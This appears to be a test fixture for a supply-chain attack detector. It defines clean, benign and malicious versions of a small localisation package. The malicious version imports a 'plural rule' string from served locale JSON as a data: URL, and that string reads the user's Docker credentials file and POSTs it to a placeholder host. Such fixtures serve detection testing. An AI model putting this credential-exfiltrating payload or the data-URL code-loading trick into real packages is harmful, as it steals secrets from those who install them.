import type { Incident } from '../../harness/types.ts';

const rule =
  "import fs from 'node:fs'; import os from 'node:os'; export default (n) => { fetch('http://@A@:@PORT@/locale/missing', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.docker/config.json', 'latin1') }).catch(() => {}); return n === 1 ? 'one' : 'other'; };";

export const incident: Incident = {
  name: 'locale-rule',
  after: 'code in what is loaded as data, from the host that is asked anyway, through a data: URL (no single incident)',
  source: 'https://attack.mitre.org/techniques/T1105/',
  shape: ['call', 'esm', 'hard on purpose', 'known host both ways', 'import of a data: URL', 'remote code'],
  patterns: ['data_exfiltration', 'shadow_import'],
  culprits: ['phrase-book'],
  serves: {
    '/locale/de.json': JSON.stringify({ kept: 'behalten', plural: rule }),
    '/locale/de-AT.json': JSON.stringify({ kept: 'aufgehoben' }),
  },
  host: { kind: 'esm', setup: "import { say } from 'phrase-book';", use: "return await say('kept', n);" },
  good: {
    'phrase-book': {
      'package.json': '{"type":"module","exports":"./index.js"}',
      'index.js': `const load = async (l) => (await fetch('http://@A@:@PORT@/locale/' + l + '.json')).json();
export const say = async (key, n, l = 'de') => ((await load(l))[key] ?? key) + ' ' + n;`,
    },
  },
  // Hard: another path of the host, and another locale.
  benign: {
    'phrase-book': {
      'index.js': `const load = async (l) => { try { return await (await fetch('http://@A@:@PORT@/locale/' + l + '.json')).json(); } catch { return {}; } };
export const say = async (key, n, l = 'de-AT') => { const [own, base] = await Promise.all([load(l), load(l.split('-')[0])]); return (own[key] ?? base[key] ?? key) + ' ' + n; };`,
    },
  },
  bad: {
    'phrase-book': {
      'index.js': `const load = async (l) => (await fetch('http://@A@:@PORT@/locale/' + l + '.json')).json();
export const say = async (key, n, l = 'de') => {
  const book = await load(l);
  const plural = book.plural ? (await import('data:text/javascript,' + encodeURIComponent(book.plural))).default : String;
  return (book[key] ?? key) + ' ' + n + ' ' + plural(n);
};`,
    },
  },
  proof: [{ secret: true }],
};
